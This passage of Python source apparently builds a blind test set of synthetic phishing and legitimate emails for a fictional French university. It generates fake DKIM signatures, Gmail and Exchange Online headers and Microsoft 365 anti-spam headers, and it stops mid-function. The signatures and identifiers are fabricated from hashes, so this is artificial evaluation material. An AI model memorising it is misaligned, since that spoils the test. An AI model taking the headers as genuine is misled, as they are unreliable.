"""Blind test set 10: what a university's phishing-awareness page and its reporting mailbox collected, 2022-2026.

The phishing half is the kind of mail that staff, students and alumni forwarded to
the security team of a fictional French university on Microsoft 365 (Université de
Montforez, univ-montforez.fr and etu.univ-montforez.fr), to a research institute on
Google Workspace (Danube Institute for Systems Neuroscience, disn-research.eu) and to
a few alumni personal mailboxes (gmail.com, outlook.com, yahoo.com, gmx.de, web.de,
laposte.net): IT-helpdesk quota and password notices, Outlook Web App, Zimbra and
Roundcube lookalikes, payroll and HR lures, fake research-assistant jobs, grants,
library expiry, Teams/OneDrive/SharePoint/DocuSign/Adobe lookalikes, e-fax and
voicemail HTML attachments, predatory conferences, shared-folder lures from
compromised colleagues, QR codes, thread hijacking, gift-card requests from a fake
dean, book-publishing fees, wallet verification and MFA-fatigue pretexts, mostly in
English with some French, German, Portuguese, Polish and Czech, each with the
receiving server's own headers (Exchange Online, Gmail, GMX/WEB.DE, Yahoo, La Poste)
and the authentication results of the infrastructure that really sent it. The
legitimate half is what the same mailboxes received the same years: the university
IT department's own notices (maintenance, MFA enrolment, a security newsletter that
quotes phishing examples), genuine Microsoft, Google and Okta notifications, a call
for papers, a ScholarOne review invitation, HR and library notices, a career-office
job posting, OneDrive/Dropbox/Google Docs shares, list posts, a tracked departmental
newsletter and plain person-to-person mail between colleagues. Every date, identifier
(derived from hashes of the sample name), boundary and archive timestamp is fixed, so
re-running rewrites identical bytes. Run from the repository root:

    .venv/bin/python samples/tools/build_blind10_samples.py

After the first scan, the journal's review invitation (ScholarOne, from the
editor's own address, no bulk service) was filed under clean/, where the
engine's classification puts it; its name keeps the writer's "bulk".
"""

from __future__ import annotations

import base64
import hashlib
import io
import sys
import zlib
from datetime import datetime, timedelta, timezone
from pathlib import Path
from zoneinfo import ZoneInfo

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
sys.path.insert(0, str(HERE))

import files  # noqa: E402
import mime  # noqa: E402
from mime import Leaf, Multi, attachment, text  # noqa: E402

OUT = ROOT / "samples" / "mail"
MANIFEST = HERE / "blind10_manifest.txt"

# --------------------------------------------------------------------------------------------
# Deterministic identifiers
# --------------------------------------------------------------------------------------------


class Ids:
    """Identifiers derived from the sample name, so every run gives the same ones."""

    def __init__(self, name: str):
        self.name = name

    def raw(self, label: str, n: int) -> bytes:
        out = b""
        i = 0
        while len(out) < n:
            out += hashlib.sha256(f"{self.name}|{label}|{i}".encode()).digest()
            i += 1
        return out[:n]

    def hex(self, label: str, n: int, upper: bool = False) -> str:
        h = self.raw(label, (n + 1) // 2).hex()[:n]
        return h.upper() if upper else h

    def b64(self, label: str, n: int) -> str:
        return base64.b64encode(self.raw(label, n)).decode()[:n]

    def b64url(self, label: str, n: int) -> str:
        return base64.urlsafe_b64encode(self.raw(label, n)).decode().rstrip("=")[:n]

    def alnum(self, label: str, n: int, alphabet: str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") -> str:
        data = self.raw(label, n)
        return "".join(alphabet[b % len(alphabet)] for b in data)

    def lower(self, label: str, n: int) -> str:
        return self.alnum(label, n, "abcdefghijklmnopqrstuvwxyz0123456789")

    def letters(self, label: str, n: int) -> str:
        return self.alnum(label, n, "abcdefghijklmnopqrstuvwxyz")

    def num(self, label: str, lo: int, hi: int) -> int:
        return lo + int.from_bytes(self.raw(label, 8), "big") % (hi - lo + 1)

    def guid(self, label: str) -> str:
        h = self.hex(label, 32)
        return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"

    def pick(self, label: str, seq):
        return seq[self.num(label, 0, len(seq) - 1)]


def T(stamp: str) -> datetime:
    """A UTC instant from 'YYYY-MM-DD HH:MM:SS'."""
    return datetime.strptime(stamp, "%Y-%m-%d %H:%M:%S").replace(tzinfo=timezone.utc)


def rfc(dt: datetime, tz: str = "UTC", pad: bool = False, paren: bool = False, utc_paren: bool = False) -> str:
    local = dt.astimezone(ZoneInfo(tz))
    day = f"{local.day:02d}" if pad else str(local.day)
    s = f"{local.strftime('%a')}, {day} {local.strftime('%b %Y %H:%M:%S %z')}"
    if paren:
        s += f" ({local.tzname()})"
    elif utc_paren:
        s += " (UTC)"
    return s


def ms_stamp(dt: datetime, I: Ids, label: str) -> str:
    """Exchange's '14 Mar 2023 09:12:44.8123 (UTC)'."""
    return f"{dt.strftime('%d %b %Y %H:%M:%S')}.{I.num(label, 0, 9999):04d} (UTC)"


def fold(line: str, width: int = 78) -> str:
    """Fold a header line at spaces, continuation lines starting with one space."""
    words = line.split(" ")
    lines = []
    cur = words[0]
    for w in words[1:]:
        if len(cur) + 1 + len(w) > width and cur.strip():
            lines.append(cur)
            cur = " " + w
        else:
            cur += " " + w
    lines.append(cur)
    return "\n".join(lines)


def chunks(s: str, n: int) -> list[str]:
    return [s[i:i + n] for i in range(0, len(s), n)]


def enc(s: str, charset: str = "UTF-8") -> str:
    """An RFC 2047 encoded-word (base64), split on character boundaries; ASCII passes as is."""
    if all(ord(c) < 128 for c in s):
        return s
    words, cur = [], ""
    for ch in s:
        if len((cur + ch).encode("utf-8")) > 45:
            words.append(cur)
            cur = ch
        else:
            cur += ch
    words.append(cur)
    return "\n ".join(f"=?{charset}?B?{base64.b64encode(w.encode('utf-8')).decode()}?=" for w in words)


def encq(s: str) -> str:
    """An RFC 2047 Q-encoded word, as Outlook and Thunderbird write short subjects."""
    if all(ord(c) < 128 for c in s):
        return s
    words, out = [], ""
    for ch in s:
        piece = ""
        for b in ch.encode("utf-8"):
            c = chr(b)
            if c == " ":
                piece += "_"
            elif c.isalnum() and b < 128:
                piece += c
            else:
                piece += f"={b:02X}"
        if len(out) + len(piece) > 60:
            words.append(out)
            out = ""
        out += piece
    words.append(out)
    return "\n ".join(f"=?utf-8?Q?{w}?=" for w in words)


def addr(name: str, email: str) -> str:
    if not name:
        return email
    if all(ord(c) < 128 for c in name):
        if any(c in name for c in ',.()@:;"'):
            return f'"{name}" <{email}>'
        return f"{name} <{email}>"
    return f"{enc(name)} <{email}>"


# --------------------------------------------------------------------------------------------
# Signatures and sender-side headers
# --------------------------------------------------------------------------------------------


def sig(I: Ids, d: str, label: str = "") -> str:
    return I.b64(f"dkim-b-{d}-{label}", 344)


def bh(I: Ids, d: str) -> str:
    return base64.b64encode(I.raw(f"dkim-bh-{d}", 32)).decode()


def dkim(I: Ids, d: str, s: str, h: str, when: datetime | None = None, style: str = "tab",
         extra: str = "", label: str = "") -> str:
    """A DKIM-Signature header in one of the layouts signers use."""
    b = sig(I, d, label)
    t = f" t={int(when.timestamp())};" if when else ""
    if style == "google":
        ind = "\n        "
        head = f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;{ind}d={d}; s={s};{t}{extra}"
        hh = f"{ind}h={h};"
        return head + hh + f"{ind}bh={bh(I, d)};{ind}b=" + f"{ind}".join(
            [b[:60]] + chunks(b[60:], 71))
    if style == "ms":
        return (f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d={d};\n s={s};\n"
                + fold(f" h={h};", 78) + f"\n bh={bh(I, d)};\n b=" + "\n ".join(chunks(b, 76)))
    return (f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d={d};\n\ts={s};{t}{extra}\n"
            f"\tbh={bh(I, d)};\n" + fold(f"\th={h};", 78).replace("\n ", "\n\t ") + "\n\tb="
            + "\n\t ".join(chunks(b, 70)))


class Conn:
    """How the message reached the receiving MX and what authentication found."""

    def __init__(self, ip: str, helo: str, mailfrom: str, spf: str = "pass", dkim=(), dmarc: str = "none",
                 from_domain: str = "", policy: str = "NONE", rdns: str | None = "", country: str = "US",
                 lang: str = "en", tls: str = "TLS1_2", spf_domain: str | None = None, arc: str = ""):
        self.ip = ip
        self.helo = helo
        self.mailfrom = mailfrom
        self.spf = spf
        self.dkim = list(dkim)  # (result, d, selector)
        self.dmarc = dmarc
        self.from_domain = from_domain
        self.policy = policy
        self.rdns = helo if rdns == "" else rdns
        self.country = country
        self.lang = lang
        self.tls = tls
        self.spf_domain = spf_domain or (mailfrom.split("@")[-1] if mailfrom else helo)
        self.arc = arc


def gmail_origin(I: Ids, sent: datetime, frm: str, to: str, subject: str, external: bool, rcpt: str,
                 extra: list[str] | None = None, cc: str = "", tz: str = "Europe/Paris",
                 reply_to: str = "", in_reply_to: str = "", references: str = "",
                 workspace: str = "") -> tuple[str, Conn]:
    """The headers a message written in Gmail (or a Google Workspace domain) carries when it leaves Google."""
    email = frm.split("<")[-1].rstrip(">")
    d = workspace or "gmail.com"
    selector = "google" if workspace else ("20230601" if sent >= T("2023-07-01 00:00:00") else "20210112")
    smtp_host = I.pick("gm-hostkind", ["wm1", "ej1", "pl1", "lf1", "ed1", "wr1", "qt1", "yb1"])
    octet = I.num("gm-oct", 41, 180)
    host = f"mail-{smtp_host}-f{octet}.google.com"
    ip = f"209.85.{I.pick('gm-net', [128, 218, 214, 167, 208, 221, 160])}.{octet}"
    if not external:
        octet = I.pick("gm-sor", [41, 65, 69, 73, 101])
        host, ip = f"mail-sor-f{octet}.google.com", f"209.85.220.{octet}"
    pt = sent - timedelta(seconds=1)
    xts = int(sent.timestamp())
    hlist = ("to:subject:message-id:date:from:mime-version" if not cc else
             "cc:to:subject:message-id:date:from:mime-version")
    if in_reply_to:
        hlist = hlist.replace("date:from", "date:from:in-reply-to:references")
    darn = f" darn={rcpt.split('@')[1]};" if sent >= T("2023-02-01 00:00:00") else ""
    lines = []
    if external:
        lines.append(f"Received: by {host} with SMTP id {I.lower('gm-sid1', 10)}-{I.lower('gm-sid2', 12)}.{I.num('gm-sid3', 1, 40)}\n"
                     f"        for <{rcpt}>; {rfc(pt, 'America/Los_Angeles', pad=True, paren=True)}")
    lines.append(dkim(I, d, selector, hlist + ":from:to:cc:subject:date:message-id:reply-to", sent, "google",
                      extra=f" x={xts + 604800};{darn}"))
    lines.append(f"X-Google-DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;\n        d=1e100.net; s=20230601; t={xts}; x={xts + 604800};\n"
                 f"        h={hlist}:x-gm-message-state:from:to:cc:subject:date:message-id:reply-to;\n"
                 f"        bh={bh(I, d)};\n        b=" + "\n        ".join(chunks(I.b64('x-google-b', 344), 71)))
    prefix = "AOJu0Y" if sent >= T("2023-09-01 00:00:00") else "AO0yUK"
    lines.append(f"X-Gm-Message-State: {prefix}{I.b64('gm-state', 60)}\n\t{I.b64('gm-state2', 40)}")
    src = "AGHT+I" if sent >= T("2023-07-01 00:00:00") else "AK7set"
    lines.append(f"X-Google-Smtp-Source: {src}{I.b64('gm-src', 80)}")
    lines.append(f"X-Received: by 2002:a05:{I.hex('xr1', 4)}:{I.hex('xr2', 4)}:b0:{I.hex('xr3', 3)}:{I.hex('xr4', 4)}:{I.hex('xr5', 4)} with SMTP id "
                 f"{I.letters('xr6', 2)}{I.num('xr7', 1000000, 9999999)}-{I.hex('xr8', 8)}.{I.num('xr9', 1, 99)}.{int(pt.timestamp() * 1000)};\n"
                 f"        {rfc(pt, 'America/Los_Angeles', pad=True, paren=True)}")
    lines.append("MIME-Version: 1.0")
    if in_reply_to:
        lines.append(f"References: {references or in_reply_to}")
        lines.append(f"In-Reply-To: {in_reply_to}")
    lines.append(f"From: {frm}")
    lines.append(f"Date: {rfc(sent, tz)}")
    lines.append(f"Message-ID: <CA+{I.alnum('gm-mid', 44)}@mail.gmail.com>")
    lines.append(f"Subject: {subject}")
    lines.append(f"To: {to}")
    if cc:
        lines.append(f"Cc: {cc}")
    if reply_to:
        lines.append(f"Reply-To: {reply_to}")
    lines += extra or []
    c = Conn(ip, host, email, "pass", [("pass", d, selector)], "pass", d,
             "NONE" if not workspace else "QUARANTINE", country="US")
    c.google_external = external  # type: ignore[attr-defined]
    return "\n".join(lines), c


def gmail_boundary(I: Ids, label: str = "b") -> str:
    return "000000000000" + I.hex(f"gmb-{label}", 16)


def outlook_boundary(I: Ids, mbx: str, label: str = "b") -> str:
    short = mbx.split(".")[0]
    return f"_000_{short}{I.hex('olb' + label, 32, upper=True)}{short}{mbx.split('.')[1][:4].lower()}_"


def ms_version(when: datetime, I: Ids, label: str = "v") -> str:
    months = (when.year - 2022) * 12 + when.month - 1
    return f"15.20.{4900 + months * 95 + I.num(label + 'a', 0, 30)}.{I.num(label + 'b', 10, 45)}"


def ms_arc(I: Ids, when: datetime, domain: str, dkim_d: str | None, spf: str = "pass", dmarc: str = "pass") -> list[str]:
    """The ARC set Exchange Online adds when a tenant sends to the Internet."""
    sel = "arcselector10001" if when >= T("2024-03-01 00:00:00") else "arcselector9901"
    dk = f"dkim=pass header.d={dkim_d}" if dkim_d else "dkim=none"
    return [
        f"ARC-Seal: i=1; a=rsa-sha256; s={sel}; d=microsoft.com; cv=none;\n b=" + "\n ".join(chunks(I.b64("ms-arc-seal", 344), 76)),
        f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=microsoft.com;\n s={sel};\n"
        " h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-AntiSpam-MessageData-ChunkCount:X-MS-Exchange-AntiSpam-MessageData-0:X-MS-Exchange-AntiSpam-MessageData-1;\n"
        f" bh={bh(I, 'arc')};\n b=" + "\n ".join(chunks(I.b64("ms-arc-ms", 344), 76)),
        fold(f"ARC-Authentication-Results: i=1; mx.microsoft.com 1; spf={spf} smtp.mailfrom={domain}; "
             f"dmarc={dmarc} action=none header.from={domain}; {dk}; arc=none"),
    ]


def exchange_author(I: Ids, sent: datetime, mbx: str, frm: str, to: str, subject: str, cc: str = "",
                    lang: str = "en-US", has_attach: bool = False, extra: list[str] | None = None,
                    in_reply_to: str = "", references: str = "", thread_topic: str | None = None,
                    reply_to: str = "") -> list[str]:
    """The author headers Outlook / OWA writes through Exchange Online (top hop is the mapi submission)."""
    ver = ms_version(sent, I, "auth")
    fe80 = f"fe80::{I.hex('fe1', 4)}:{I.hex('fe2', 4)}:{I.hex('fe3', 4)}:{I.hex('fe4', 4)}%{I.num('fe5', 3, 7)}"
    lines = [
        f"Received: from {mbx}\n ([{fe80}]) by {mbx}\n ([{fe80}]) with mapi id {ver}; {rfc(sent)}",
        f"From: {frm}",
        f"To: {to}",
    ]
    if cc:
        lines.append(f"CC: {cc}")
    topic = thread_topic if thread_topic is not None else subject.split(": ", 1)[-1] if subject.startswith(("RE: ", "TR: ", "FW: ", "AW: ")) else subject
    lines += [
        f"Subject: {subject}",
        f"Thread-Topic: {topic}",
        f"Thread-Index: AQH{I.b64('thread-index', 29)}",
        f"Date: {rfc(sent)}",
        f"Message-ID:\n <{mbx.split('.')[0]}{I.hex('ms-mid', 32, upper=True)}@{mbx}>",
    ]
    if reply_to:
        lines.append(f"Reply-To: {reply_to}")
    if references:
        lines.append(f"References: {references}")
    if in_reply_to:
        lines.append(f"In-Reply-To: {in_reply_to}")
    lines += [
        f"Accept-Language: {lang}, en-US" if lang != "en-US" else "Accept-Language: en-US",
        f"Content-Language: {lang}",
        f"X-MS-Has-Attach: {'yes' if has_attach else ''}",
        "X-MS-TNEF-Correlator:",
    ]
    return lines + (extra or [])


def exchange_message_id(lines: list[str]) -> str:
    for line in lines:
        if line.startswith("Message-ID:"):
            return line.split("<", 1)[1].split(">", 1)[0]
    raise ValueError("no Message-ID")


def exchange_outbound(I: Ids, sent: datetime, mbx: str, domain: str, region_host: str, ip: str,
                      author: list[str], dkim_d: str | None = None, selector: str = "selector1",
                      country: str = "US") -> tuple[str, Conn]:
    """A message from another Exchange Online tenant as it leaves Microsoft: ARC, DKIM, the relay hop."""
    ver = ms_version(sent, I, "out")
    lines = ms_arc(I, sent, domain, dkim_d or domain)
    lines.append(dkim(I, dkim_d or domain, selector, "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck", style="ms"))
    relay2 = mbx.split(".")[0][:3] + f"PR{I.num('relpr', 10, 19)}MB{I.num('relmb', 1000, 9999)}." + ".".join(mbx.split(".")[1:])
    lines.append(fold(f"Received: from {mbx} ({ipv6(I, 'mbx-out', mbx)}) by {relay2} ({ipv6(I, 'relay2', mbx)}) with Microsoft SMTP Server "
                      f"(version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {ver}; {rfc(sent + timedelta(seconds=1))}"))
    lines += author
    c = Conn(ip, region_host, author_from_addr(author), "pass", [("pass", dkim_d or domain, selector)], "pass",
             domain, "NONE", country=country)
    c.exchange = True  # type: ignore[attr-defined]
    return "\n".join(lines), c


def author_from_addr(lines: list[str]) -> str:
    for line in lines:
        if line.startswith("From:"):
            return line.split("<")[-1].rstrip(">").strip() if "<" in line else line.split(":", 1)[1].strip()
    raise ValueError("no From")


def ipv6(I: Ids, label: str, host: str = "") -> str:
    """An Exchange Online internal IPv6 address, in the prefix of the host's region."""
    h = host.upper()
    prefix = "10b6" if "NAM" in h else "10c6" if "AUS" in h else "10a6"
    parts = [I.hex(label + "1", 3).lstrip("0") or "0", I.hex(label + "2", 3).lstrip("0") or "0", I.hex(label + "3", 2).lstrip("0") or "1"]
    return f"2603:{prefix}:{parts[0]}:{parts[1]}::{parts[2]}"


# --------------------------------------------------------------------------------------------
# Receiving servers
# --------------------------------------------------------------------------------------------

UNIV = "univ-montforez.fr"
ETU = "etu.univ-montforez.fr"
TENANT_U = "7c1e9a52-3b8d-4f06-a7e2-95d4c0b81f3a"
TENANT_MSA = "84df9e7f-e9f6-40af-b435-aaaaaaaaaaaa"
U_MBX = ["PR1P264MB2398.FRAP264.PROD.OUTLOOK.COM", "MR1P264MB3305.FRAP264.PROD.OUTLOOK.COM",
         "PA0P264MB1127.FRAP264.PROD.OUTLOOK.COM", "PR0P264MB4416.FRAP264.PROD.OUTLOOK.COM"]
INST = "disn-research.eu"


def _spf_text_ms(c: Conn) -> tuple[str, str]:
    dom = c.spf_domain
    res = {"pass": "Pass", "fail": "Fail", "softfail": "SoftFail", "none": "None", "neutral": "Neutral",
           "temperror": "TempError"}[c.spf]
    if c.spf == "pass":
        why = f"domain of {dom} designates {c.ip} as permitted sender"
    elif c.spf == "softfail":
        why = f"domain of transitioning {dom} discourages use of {c.ip} as permitted sender"
    elif c.spf == "fail":
        why = f"domain of {dom} does not designate {c.ip} as permitted sender"
    elif c.spf == "neutral":
        why = f"{c.ip} is neither permitted nor denied by domain of {dom}"
    else:
        why = f"{dom} does not designate permitted sender hosts"
    return res, why


def m365_in(I: Ids, when: datetime, rcpt: str, c: Conn, consumer: bool = False, scl: int = 1, bcl: int = 0,
            cat: str = "NONE", sfv: str = "NSPM", dest: str = "I", sfs: str = "", extra_trailer=()) -> tuple[list[str], list[str]]:
    """Exchange Online's inbound headers: the top of the Received chain and the block after the MIME headers."""
    old = when < T("2023-06-01 00:00:00")
    ver = ms_version(when, I)
    if consumer:
        mbx = f"{I.pick('cmbx', ['SA1P223MB', 'DM4P223MB', 'CH3P223MB', 'PH7P223MB'])}{I.num('cmbxn', 1000, 1999)}.NAMP223.PROD.OUTLOOK.COM"
        fe = f"{I.pick('cfe', ['BN9PR03CA', 'MW4PR04CA', 'SJ0PR13CA', 'DS7PR05CA'])}{I.num('cfen', 1000, 9999):04d}.namprd0{I.num('cfer', 3, 5)}.prod.outlook.com"
        if old:
            ftn = f"{I.pick('cftp', ['BN8NAM12', 'DM6NAM11', 'MW2NAM12', 'CO1NAM11'])}FT{I.num('cftn', 10, 99):03d}"
            ft_full = f"{ftn}.eop-nam12.prod.protection.outlook.com"
            ft_mail = f"{ftn}.mail.protection.outlook.com"
        else:
            ftn = f"{I.pick('cftp', ['SN1PEPF0002', 'BN2PEPF0000', 'DS3PEPF0000', 'CY4PEPF0000'])}{I.hex('cftn', 4, upper=True)}"
            ft_full = ft_mail = f"{ftn}.namprd05.prod.outlook.com"
        tenant = TENANT_MSA
    else:
        mbx = U_MBX[I.num("umbx", 0, len(U_MBX) - 1)]
        fe = f"{I.pick('ufe', ['PR0P264CA', 'MR1P264CA', 'PA7P264CA', 'PR1P264CA'])}{I.num('ufen', 1000, 9999):04d}.FRAP264.PROD.OUTLOOK.COM"
        if old:
            ftn = f"{I.pick('uftp', ['AM6EUR05', 'DB5EUR03', 'VI1EUR04', 'HE1EUR04'])}FT{I.num('uftn', 10, 99):03d}"
            ft_full = f"{ftn}.eop-{ftn[3:8].lower()}.prod.protection.outlook.com"
            ft_mail = f"{ftn}.mail.protection.outlook.com"
        else:
            ftn = f"{I.pick('uftp', ['AM3PEPF0000', 'DU2PEPF0002', 'AMS0EPF0000', 'DU6PEPF0000'])}{I.hex('uftn', 4, upper=True)}"
            ft_full = ft_mail = f"{ftn}.eurprd0{I.num('uftr', 3, 5)}.prod.outlook.com"
        tenant = TENANT_U
    t0 = when
    t1 = when + timedelta(seconds=1)
    tls = "(version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384)" if c.tls == "TLS1_3" else \
        "(version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384)" if c.tls else ""
    top = [
        fold(f"Received: from {mbx} ({ipv6(I, 'mbx', mbx)}) by {mbx} with HTTPS; {rfc(t1)}"),
        fold(f"Received: from {fe} ({ipv6(I, 'fe', fe)}) by {mbx} ({ipv6(I, 'mbx', mbx)}) with Microsoft SMTP Server "
             f"(version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {ver}; {rfc(t1)}"),
        fold(f"Received: from {ft_full} ({ipv6(I, 'ft', fe) if not old else ipv6(I, 'ft', fe).rsplit('::', 1)[0] + ':cafe::' + I.hex('cafe', 2).lstrip('0')}) by {fe} "
             f"({ipv6(I, 'fe', fe)}) with Microsoft SMTP Server (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) "
             f"id {ver} via Frontend Transport; {rfc(t0)}"),
    ]
    # Authentication-Results
    spf_part = f"spf={c.spf} (sender IP is {c.ip}) " + (f"smtp.mailfrom={c.spf_domain}" if c.mailfrom else f"smtp.helo={c.helo}")
    if c.dkim:
        res, d, _ = c.dkim[0]
        why = {"pass": "signature was verified", "fail": "body hash did not verify", "none": "message not signed"}[res]
        dk = f"dkim={res} ({why}) header.d={d}"
    else:
        dk = "dkim=none (message not signed) header.d=none"
    action = "none"
    if c.dmarc == "fail":
        action = {"REJECT": "oreject", "QUARANTINE": "quarantine", "NONE": "none"}[c.policy]
    aligned = any(r == "pass" and (d == c.from_domain or d.endswith("." + c.from_domain)) for r, d, _ in c.dkim) or \
        (c.spf == "pass" and c.spf_domain.endswith(c.from_domain))
    if c.dmarc == "pass":
        comp = "pass reason=100"
    elif c.dmarc == "bestguesspass":
        comp = "pass reason=109"
    elif c.dmarc == "fail":
        comp = "fail reason=000"
    elif aligned:
        comp = "softpass reason=201"
    else:
        comp = "fail reason=001"
    ar = f"Authentication-Results: {spf_part}; {dk};dmarc={c.dmarc} action={action} header.from={c.from_domain};compauth={comp}"
    top.append(fold(ar))
    res, why = _spf_text_ms(c)
    top.append(fold(f"Received-SPF: {res} (protection.outlook.com: {why}) receiver=protection.outlook.com; "
                    f"client-ip={c.ip}; helo={c.helo};" + (" pr=C" if c.spf == "pass" else "")))
    top.append(fold(f"Received: from {c.helo} ({c.ip}) by {ft_mail} ({'10.' + str(I.num('ftip1', 13, 167)) + '.' + str(I.num('ftip2', 0, 255)) + '.' + str(I.num('ftip3', 1, 254))}) "
                    f"with Microsoft SMTP Server {tls + ' ' if tls else ''}id {ver} via Frontend Transport; {rfc(t0)}"))
    nmid = I.guid("nmid")
    short_ft = ftn
    short_mbx = mbx.split(".")[0]
    if not sfs:
        pool = ["13230040", "4636009", "376014", "82310400026", "1800799024", "36860700013", "61400799027",
                "8096899003", "35042699022", "69100299015", "2066899003", "12012899012"]
        sfs = "".join(f"({pool[i]})" for i in sorted({I.num(f"sfs{k}", 0, len(pool) - 1) for k in range(7)}))
    srv = "BULK" if bcl >= 7 else ""
    ptr = c.rdns or ""
    tr = [
        f"Return-Path: {c.mailfrom}" if c.mailfrom else "Return-Path: <>",
        f"X-MS-Exchange-Organization-ExpirationStartTime: {ms_stamp(t0, I, 'est')}",
        "X-MS-Exchange-Organization-ExpirationStartTimeReason: OriginalSubmit",
        "X-MS-Exchange-Organization-ExpirationInterval: 1:00:00:00.0000000",
        "X-MS-Exchange-Organization-ExpirationIntervalReason: OriginalSubmit",
        f"X-MS-Exchange-Organization-Network-Message-Id:\n {nmid}",
        "X-EOPAttributedMessage: 0",
        f"X-EOPTenantAttributedMessage: {tenant}:0",
        "X-MS-Exchange-Organization-MessageDirectionality: Incoming",
        "X-MS-PublicTrafficType: Email",
        f"X-MS-TrafficTypeDiagnostic:\n {short_ft}:EE_|{short_mbx}:EE_",
        f"X-MS-Exchange-Organization-AuthSource:\n {ft_full}",
        "X-MS-Exchange-Organization-AuthAs: Anonymous",
        f"X-MS-Office365-Filtering-Correlation-Id: {I.guid('corr')}",
        f"X-MS-Exchange-Organization-SCL: {scl}",
    ]
    if consumer:
        tr += [f"X-Sender-IP: {c.ip}", f"X-SID-PRA: {c.mailfrom.upper() if c.mailfrom else ''}",
               f"X-SID-Result: {'PASS' if c.dmarc in ('pass', 'bestguesspass') else 'FAIL' if c.dmarc == 'fail' else 'NONE'}",
               "X-MS-Exchange-Organization-PCL: 2"]
    tr += [
        f"X-Microsoft-Antispam: BCL:{bcl};ARA:13230040|{I.num('ara1', 1000000, 9999999)}|{I.num('ara2', 100000, 999999)}|{I.num('ara3', 10000000, 99999999)};",
        fold(f"X-Forefront-Antispam-Report: CIP:{c.ip};CTRY:{c.country};LANG:{c.lang};SCL:{scl};SRV:{srv};IPV:NLI;SFV:{sfv};"
             f"H:{c.helo};PTR:{ptr};CAT:{cat};SFS:{sfs};DIR:INB;"),
        f"X-MS-Exchange-CrossTenant-OriginalArrivalTime: {ms_stamp(t0, I, 'oat')}",
        f"X-MS-Exchange-CrossTenant-Network-Message-Id: {nmid}",
        f"X-MS-Exchange-CrossTenant-Id: {tenant}",
        f"X-MS-Exchange-CrossTenant-AuthSource:\n {ft_full}",
        "X-MS-Exchange-CrossTenant-AuthAs: Anonymous",
        "X-MS-Exchange-CrossTenant-FromEntityHeader: Internet",
        f"X-MS-Exchange-Transport-CrossTenantHeadersStamped: {short_mbx}",
        f"X-MS-Exchange-Transport-EndToEndLatency: 00:00:0{I.num('e2e', 1, 4)}.{I.num('e2ef', 0, 9999999):07d}",
        f"X-MS-Exchange-Processed-By-BccFoldering: {ver.rsplit('.', 1)[0]}.000",
    ]
    tr += list(extra_trailer)
    if consumer:
        tr.append(fold(f"X-Microsoft-Antispam-Mailbox-Delivery: abwl:0;wl:0;pcwl:0;kl:0;dwl:0;dkl:0;rwl:0;ucf:0;jmr:0;ex:0;"
                       f"auth:{1 if c.dmarc == 'pass' else 0};dest:{dest};ENG:(5062000308)(920221119095)(90000117)(920221120095)(90010023)"
                       f"(91010020)(91040095)(9050020)(9100341)(944500132)(4810010)(4910033)(9575002)(10195002)(9320005);"))
        tr.append(f"X-Message-Info:\n\tqZelhIiYnPn{I.b64('xmi', 60)}")
        tr.append(f"X-Message-Delivery: Vj0xLjE7dXM9MDtsPTA7YT0wO0Q9{'MTtHRD0xO1NDTD0z' if dest == 'I' else 'MjtHRD0yO1NDTD02'}")
    else:
        tr.append(fold(f"X-Microsoft-Antispam-Mailbox-Delivery: ucf:0;jmr:0;auth:0;dest:{dest};"
                       f"ENG:(910005)(944506478)(944626604)(920097)(930097)(3100021)(140003)(1420198);"))
    info = I.b64("msinfo", 900)
    tr.append("X-Microsoft-Antispam-Message-Info:\n " + "\n ".join(chunks(info, 76)))
    return top, tr


def google_in(I: Ids, when: datetime, rcpt: str, c: Conn) -> list[str]:
    """What Gmail / Google Workspace prepends on delivery, ARC included."""
    t = when
    arc_sel = "arc-20240605" if when >= T("2024-07-01 00:00:00") else "arc-20160816"
    la = "America/Los_Angeles"
    parts = []
    for res, d, s in c.dkim:
        b8 = sig(I, d)[:8]
        if res == "pass":
            parts.append(f"dkim=pass header.i=@{d} header.s={s} header.b={b8}")
        elif res == "fail":
            parts.append(f"dkim=neutral (body hash did not verify) header.i=@{d} header.s={s} header.b={b8}")
    mf = c.mailfrom
    if c.spf == "pass":
        spf = f"spf=pass (google.com: domain of {mf} designates {c.ip} as permitted sender) smtp.mailfrom={mf}"
    elif c.spf == "softfail":
        spf = f"spf=softfail (google.com: domain of transitioning {mf} does not designate {c.ip} as permitted sender) smtp.mailfrom={mf}"
    elif c.spf == "fail":
        spf = f"spf=fail (google.com: domain of {mf} does not designate {c.ip} as permitted sender) smtp.mailfrom={mf}"
    elif c.spf == "neutral":
        spf = f"spf=neutral (google.com: {c.ip} is neither permitted nor denied by best guess record for domain of {mf}) smtp.mailfrom={mf}"
    else:
        spf = f"spf=none (google.com: {mf} does not designate permitted sender hosts) smtp.mailfrom={mf}"
    parts.append(spf)
    if c.dmarc in ("pass", "fail"):
        dis = "NONE" if c.dmarc == "pass" or c.policy == "NONE" else c.policy
        sp = {"gmail.com": "QUARANTINE"}.get(c.from_domain, c.policy)
        parts.append(f"dmarc={c.dmarc} (p={c.policy} sp={sp} dis={dis}) header.from={c.from_domain}")
    results = ";\n       ".join(parts)
    internal = getattr(c, "google_external", None) is False
    if c.spf == "pass":
        spfline = f"Received-SPF: pass (google.com: domain of {mf} designates {c.ip} as permitted sender) client-ip={c.ip};"
    elif c.spf in ("softfail", "fail"):
        spfline = f"Received-SPF: {c.spf} (google.com: domain of {'transitioning ' if c.spf == 'softfail' else ''}{mf} does not designate {c.ip} as permitted sender) client-ip={c.ip};"
    elif c.spf == "neutral":
